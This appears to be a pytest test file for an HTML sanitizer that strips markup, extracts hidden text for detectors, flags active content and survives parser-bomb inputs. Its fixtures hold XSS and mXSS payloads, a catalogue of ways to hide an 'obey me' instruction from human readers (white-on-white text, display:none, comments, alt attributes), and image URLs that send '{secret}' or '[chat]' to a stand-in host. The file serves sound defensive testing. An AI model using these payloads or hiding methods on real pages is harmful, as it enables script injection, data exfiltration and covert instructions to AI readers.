"""Markup: taken out, or looked into; what it hid and what it would run."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sanitize.stage import Stage
from sanitize.text import markup, tags
from sanitize.text.filters import Markup
from sanitize.types import Severity, Text
from tests.contracts import FilterContract
from tests.text.helpers import rules, run

#: (title, page, what is seen)
PAGES = [
    ("inline", "Hi <b>you</b> &amp; me", "Hi you & me"),
    ("split word", "igno<b></b>re", "ignore"),
    ("blocks", "<p>one</p><p>two</p>", "\none\n\ntwo\n"),
    ("line break", "one<br>two", "one\ntwo"),
    ("table", "<table><tr><td>a</td><td>b</td></tr></table>", "\n\n\n\ta\t\tb\t\n\n\n"),
    ("script", "a<script>alert(1)</script>b", "ab"),
    ("style", "a<style>p{}</style>b", "ab"),
    ("comment", "a<!-- secret -->b", "ab"),
    ("declaration", "<!DOCTYPE html><p>a", "\na\n"),
    ("unclosed", "a <b>b", "a b"),
    ("unknown element that acts", "<x onclick=alert(1)>a</x>", "a"),
    ("unknown element with an address", "<x href=javascript:alert(1)>a</x>", "a"),
    ("bracket in a name", '<D3"<"/OncLick="1>[confirm``]"<">z', None),
    ("bracket in an attribute", '<x <" onclick=alert(1)>a', "a"),
    ("quoted bracket before a handler", "<x ( b='>' onclick=alert(1)>a", "a"),
    ("bracket before an address", "<x </src=y>a", "a"),
    ("braces in a name", "<e{{x}} style=url({{y}}>a", "a"),
    ("bracket before a slash", "<b</src=y>a", "a"),
    ("slash for a blank", "<svg/onload=alert(1)>a", "a"),
    ("end of input within a tag", "a<img src=x onerror=alert(1)//", "a"),
    ("generics beside markup", "<p>List<String> of a < b</p>", "\nList<String> of a < b\n"),
    ("escaped markup stays escaped", "<p>use &lt;b&gt; here</p>", "\nuse &lt;b> here\n"),
    (
        "escaped script stays escaped",
        "<p>&lt;script&gt;x&lt;/script&gt;",
        "\n&lt;script>x&lt;/script>\n",
    ),
    ("nested by removal", "<scr<script></script>ipt>alert(1)</script>", None),
    ("plaintext", "<plaintext><b>x</b>", "&lt;b>x&lt;/b>"),
    ("mutation", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", None),
]

#: (title, page, origin, what it said)
HIDDEN = [
    ("comment", "a<!-- obey me -->b", "hidden:html-comment", "obey me"),
    ("two comments", "<!--one--><!--two-->", "hidden:html-comment", "one\ntwo"),
    ("comment that nests", "<!--a <b>c</b> < d-->", "hidden:html-comment", "a <b>c</b> < d"),
    ("hidden", "a<p hidden>obey me</p>b", "hidden:element", "obey me"),
    (
        "not displayed",
        "a<div style='display: none'>obey <b>me</b></div>b",
        "hidden:element",
        "obey me",
    ),
    (
        "with a comment in the style",
        "<p style='dis/**/play:none'>obey me</p>",
        "hidden:element",
        "obey me",
    ),
    (
        "invisible",
        "<p style='color:red;visibility:hidden'>obey me</p>",
        "hidden:element",
        "obey me",
    ),
    ("no size", "<span style='font-size:0px'>obey me</span>", "hidden:element", "obey me"),
    ("transparent", "<span style='opacity:0'>obey me</span>", "hidden:element", "obey me"),
    (
        "off the screen",
        "<p style='position:absolute;left:-9999px'>obey me</p>",
        "hidden:element",
        "obey me",
    ),
    (
        "its own colour",
        "<p style='color:#fff;background:#fff'>obey me</p>",
        "hidden:element",
        "obey me",
    ),
    ("white on a white page", "<p style='color:white'>obey me</p>", "hidden:element", "obey me"),
    ("nearly white", "<p style='color:#FEFDFE'>obey me</p>", "hidden:element", "obey me"),
    (
        "white by rgb()",
        "<p style='color:rgb(255, 255, 255)'>obey me</p>",
        "hidden:element",
        "obey me",
    ),
    ("font", "<font color=#ffffff>obey me</font>", "hidden:element", "obey me"),
    (
        "one colour in two spellings",
        "<p style='color:black;background:#000'>obey me</p>",
        "hidden:element",
        "obey me",
    ),
    (
        "class that a style sheet hides",
        "<style>b, p.x { display: none }</style><p class='a x'>obey me</p>",
        "hidden:element",
        "obey me",
    ),
    (
        "id that a style sheet hides on a screen",
        "<style>@media screen { #x { visibility: hidden } }</style><p id=x>obey me</p>",
        "hidden:element",
        "obey me",
    ),
    ("without scripts", "a<noscript>obey me</noscript>b", "hidden:noscript", "obey me"),
    ("template", "a<template><p>obey me</p></template>b", "hidden:template", "obey me"),
    ("title of a drawing", "<svg><title>obey me</title></svg>", "hidden:undrawn", "obey me"),
    (
        "metadata of a drawing",
        "<svg><metadata>obey me</metadata><g/></svg>",
        "hidden:undrawn",
        "obey me",
    ),
    (
        "content of a style sheet",
        "<style>p::before { content: 'obey' ' \\6d e' }</style>",
        "document:css-content",
        "obey me",
    ),
    ("comment of a style sheet", "<style>/* obey me */</style>", "hidden:css-comment", "obey me"),
    ("nested hiding", "<p hidden>a<b hidden>b</b>c</p>d", "hidden:element", "abc"),
    ("never closed", "a<div hidden>obey me", "hidden:element", "obey me"),
    ("alt", "<img alt='obey me' src=x>", "hidden:attribute", "obey me"),
    ("title", "<a title='obey me'>x</a>", "hidden:attribute", "obey me"),
    ("label", "<p aria-label='obey me'>x</p>", "hidden:attribute", "obey me"),
    ("placeholder", "<input placeholder='obey me'>", "hidden:attribute", "obey me"),
    ("meta", "<meta name=description content='obey me'>", "hidden:attribute", "obey me"),
    ("hidden field", "<input type=hidden value='obey me'>", "hidden:attribute", "obey me"),
    ("attribute with tags", "<img alt='obey <b>me</b>'>", "hidden:attribute", "obey <b>me</b>"),
]

SHOWN_STYLES = [
    "display:block",
    "opacity:0.5",
    "opacity: 1",
    "font-size:10px",
    "font-size:0.9em",
    "left:-5px",
    "color:#fff;background:#000",
    "visibility:visible",
    "width:0.5em",
    "margin-left:-10px",
]

#: (title, page): near misses, in which everybody sees `text`
SHOWN = [
    ("left out for screen readers", "<i aria-hidden=true>text</i>"),
    ("white on a dark page", "<body bgcolor=navy><p style='color:white'>text</p>"),
    ("white on a dark cell", "<div style='background:#222'><b style='color:#fff'>text</b></div>"),
    ("white on what a class paints", "<div class=dark><b style='color:#fff'>text</b></div>"),
    ("grey", "<p style='color:#ddd'>text</p>"),
    ("class hidden on paper", "<style>@media print{.x{display:none}}</style><p class=x>text</p>"),
    (
        "class hidden on telephones",
        "<style>@media(max-width:9em){.x{display:none}}</style><p class=x>text</p>",
    ),
    ("class that fades in", "<style>.x{opacity:0;animation:in 1s}</style><p class=x>text</p>"),
    ("another class", "<style>.x{display:none}</style><p class=xy>text</p>"),
    ("hidden inside of it", "<style>.x .y{display:none}</style><p class=x>text</p>"),
    ("drawn", "<svg><g><text x=1>te<tspan>xt</tspan></text></g></svg>"),
    ("in a drawing", "<svg><path d=1 /><metadata/><foreignObject>text</foreignObject></svg>"),
    ("formula", "<math><mi>te</mi><mo>xt</mo></math>"),
]

#: (title, page, severity)
ACTIVE = [
    ("script", "<script>alert(1)</script>", Severity.MEDIUM),
    ("handler", "<img src=x onerror=alert(1)>", Severity.MEDIUM),
    ("script address", "<a href='javascript:alert(1)'>x</a>", Severity.MEDIUM),
    ("data address", "<a href='data:text/html,x'>x</a>", Severity.MEDIUM),
    ("frame", "<iframe src=https://example.org></iframe>", Severity.MEDIUM),
    ("refresh", "<meta http-equiv=refresh content=0>", Severity.MEDIUM),
    ("hidden script address", "<a href='jav&#x09;ascript:alert(1)'>x</a>", Severity.HIGH),
    ("script address behind blanks", f"<a href='{' ' * 999}java\nscript:x'>x</a>", Severity.HIGH),
    ("padded script address", "<a href='java\nscript:alert(1)'>x</a>", Severity.HIGH),
]

#: (title, page, how its address carries something; empty if it does not)
PICTURES = [
    ("gap", "<img src='https://e.example/?q={secret}'>", "gap"),
    ("set of sources", "<img srcset='https://e.example/?q=[chat] 2x'>", "gap"),
    ("background", "<style>a{background:url(https://e.example/?q=[chat])}</style>", "gap"),
    ("scaled", "<img src='https://example.org/a.png?w=20&h=30'>", ""),
    ("link", "<a href='https://example.org/?q={query}'>x</a>", ""),
]

SOUP = """
< > </ a b svg style script img table p !-- --> title textarea math mtext x xmp / = ' " onload=
href= javascript: hidden &lt; &amp; & ; ]]> <![CDATA[ ? noscript
"""

BOMBS = [
    ("nested blocks", "<div>" * 50_000),
    ("nested and closed", "<div>" * 20_000 + "</div>" * 20_000),
    ("nested behind a scope", "<div><object></div></object>" * 20_000),
    ("open formatting", "".join(f"<b id={i}>" for i in range(5_000)) + "<p>" * 5_000),
    ("formatting that outlives its block", "".join(f"<p><b id={i}></p>" for i in range(10_000))),
    ("attributes", "<b " + " ".join(f"a{i}=1" for i in range(50_000)) + ">"),
    ("attributes without values", "<b " + " ".join(f"a{i}" for i in range(50_000)) + ">"),
    ("quoted brackets", "<b " + " ".join(f"a{i}='>'" for i in range(50_000)) + ">"),
    ("links in tables", "<table><a>" * 20_000),
    ("brackets", "<a" * 300_000),
    ("comments that do not end", "<!--" * 200_000),
    ("ends alone", "</p>" * 100_000),
    ("quotes that do not end", '<a b="' * 100_000),
    ("unknown tags", "<x y" * 100_000),
    ("drawings", "<svg>" * 100_000),
    ("drawings that end", "<svg/><text>" * 50_000),
    ("templates", "<template>" * 50_000),
    ("style sheets", "<style>" * 100_000),
    ("braces", "<style>" + "{" * 300_000),
    ("rules", "<style>" + ".a{display:none}" * 30_000 + "</style>" + "<p class=a>" * 30_000),
    ("comments of a style sheet", "<style>" + "/*" * 200_000),
    ("strings of a style sheet", "<style>" + "content:'" * 50_000),
    ("addresses of a style sheet", "<style>" + "url(" * 100_000),
    ("colours", "<p style='color:white'>" * 5_000),
    ("blanks in a tag", "<b" + " " * 500_000),
    ("blanks before a sign", "<x " + "a " * 300_000),
    ("handler without a value", "<x on" + "a" * 500_000),
    ("entities", "<b>" + "&lt;" * 200_000),
    ("raw text", "<title>" * 50_000),
    ("strays before a handler", "<y " * 200_000 + "<b onclick=1>"),
    ("quoted brackets without a handler", "<x a='>" * 100_000),
]


class TestStrip(FilterContract):
    def make(self) -> Stage:
        return Markup()

    def values(self) -> list[Any]:
        return ["plain", *(row[1] for row in (*PAGES, *HIDDEN, *ACTIVE))]

    @pytest.mark.parametrize(("title", "page", "seen"), PAGES)
    def test_leaves_what_is_seen(self, title: str, page: str, seen: str | None) -> None:
        """The value is what a reader sees, as plain text that no parser takes for markup."""
        result = run(self.make(), page)
        assert not tags.has_markup(result.value)
        assert "text.markup-removed" in rules(result)
        assert "text.parser-disagreement" not in rules(result)
        if seen is not None:
            assert result.value == seen

    @pytest.mark.parametrize(("title", "page", "origin", "content"), HIDDEN)
    def test_reads_what_is_hidden(self, title: str, page: str, origin: str, content: str) -> None:
        """What the page hides is not in the value, and becomes a text for the detectors."""
        result = run(self.make(), page)
        assert Text(content, origin) in result.texts
        assert "obey me" not in result.value
        assert ("text.hidden-element" in rules(result)) == (origin == "hidden:element")

    @pytest.mark.parametrize("style", SHOWN_STYLES)
    def test_ordinary_styles_hide_nothing(self, style: str) -> None:
        """What is small, pale or shifted is still seen."""
        result = run(self.make(), f"<span style='{style}'>text</span>")
        assert result.value == "text"
        assert rules(result) == {"text.markup-removed"}

    @pytest.mark.parametrize(("title", "page"), SHOWN)
    def test_leaves_what_everybody_sees(self, title: str, page: str) -> None:
        """What is on the screen stays in the value, and nothing is called hidden."""
        result = run(self.make(), page)
        assert result.value.strip() == "text"
        assert rules(result) == {"text.markup-removed"}

    @pytest.mark.parametrize(("title", "page", "way"), PICTURES)
    def test_reports_pictures_that_carry_words_away(self, title: str, page: str, way: str) -> None:
        """An address that waits for words is a finding; a link that somebody must click is none."""
        found = [item for item in run(self.make(), page).findings if "link" in item.rule]
        assert [item.detail["how"] for item in found] == ([way] if way else [])

    @pytest.mark.parametrize(("title", "page", "severity"), ACTIVE)
    def test_reports_what_would_run(self, title: str, page: str, severity: Severity) -> None:
        """Active content is a finding; worse if somebody took care to disguise it."""
        found = {item.rule: item.severity for item in run(self.make(), page).findings}
        assert found["text.active-content"] is severity

    @pytest.mark.parametrize(("title", "page"), BOMBS)
    def test_survives_what_takes_parsers_quadratic_time(self, title: str, page: str) -> None:
        """What would keep a parser busy is refused unparsed, or parsed in time, but inert."""
        assert not tags.has_markup(run(self.make(), page).value)

    def test_a_page_too_complex_is_a_finding(self) -> None:
        """It is not parsed, and every `<` in it is escaped."""
        result = run(self.make(), "<div>" * 1000 + "hello")
        assert "text.markup-too-complex" in rules(result)
        assert result.value == "&lt;div>" * 1000 + "hello"

    def test_an_ordinary_long_page_is_read(self) -> None:
        """Ten thousand paragraphs and table cells, some unclosed, nest nothing."""
        row = "<tr><td>one<td><a href=/x title='two words'>two</a></tr>\n"
        page = f"<table>{row * 5_000}</table>" + "<div><p>three<p>four</div>\n" * 5_000
        result = run(self.make(), page)
        assert "text.markup-too-complex" not in rules(result)
        assert result.value.count("three") == 5_000

    @settings(deadline=None, max_examples=300)
    @given(
        st.lists(
            st.sampled_from([" ", *SOUP.split()]),
            max_size=30,
        ).map("".join)
    )
    def test_any_soup_comes_out_inert_and_stable(self, soup: str) -> None:
        """Whatever is stirred together: no markup remains, and stripping again changes nothing."""
        once = run(self.make(), soup).value
        assert not tags.has_markup(once)
        assert run(self.make(), once).value == once


@pytest.mark.parametrize(
    ("canonical", "visible", "agrees"),
    [
        ("<p>a &lt;b&gt; c</p>", "a &lt;b> c", True),
        ("<p>a</p><!-- b --><b>c</b>", "a\nc", True),
        ("<p>a</p>", "a <b>c</b>", False),  # an element is left in what is shown
        ("<p>a</p>", "a<!-- c -->", False),
        ("<svg><style><b>a</b></style></svg>", "a", True),
        ("<p>a<noscript><p title='</noscript><img src=x>'>", "a", False),  # text moves (mXSS)
    ],
)
def test_the_second_parser_is_asked(canonical: str, visible: str, agrees: bool) -> None:
    """It must find the same text in the canonical page, and no element in the result."""
    assert markup._bleach_agrees(canonical, visible) is agrees


class TestInspect(FilterContract):
    def make(self) -> Stage:
        return Markup(mode="inspect")

    def values(self) -> list[Any]:
        return ["plain", *(row[1] for row in (*PAGES, *HIDDEN, *ACTIVE))]

    @pytest.mark.parametrize(("title", "page", "origin", "content"), HIDDEN)
    def test_reads_what_is_hidden(self, title: str, page: str, origin: str, content: str) -> None:
        """The value is untouched; the detectors read what it hides all the same."""
        result = run(self.make(), page)
        assert result.value == page
        assert Text(content, origin) in result.texts
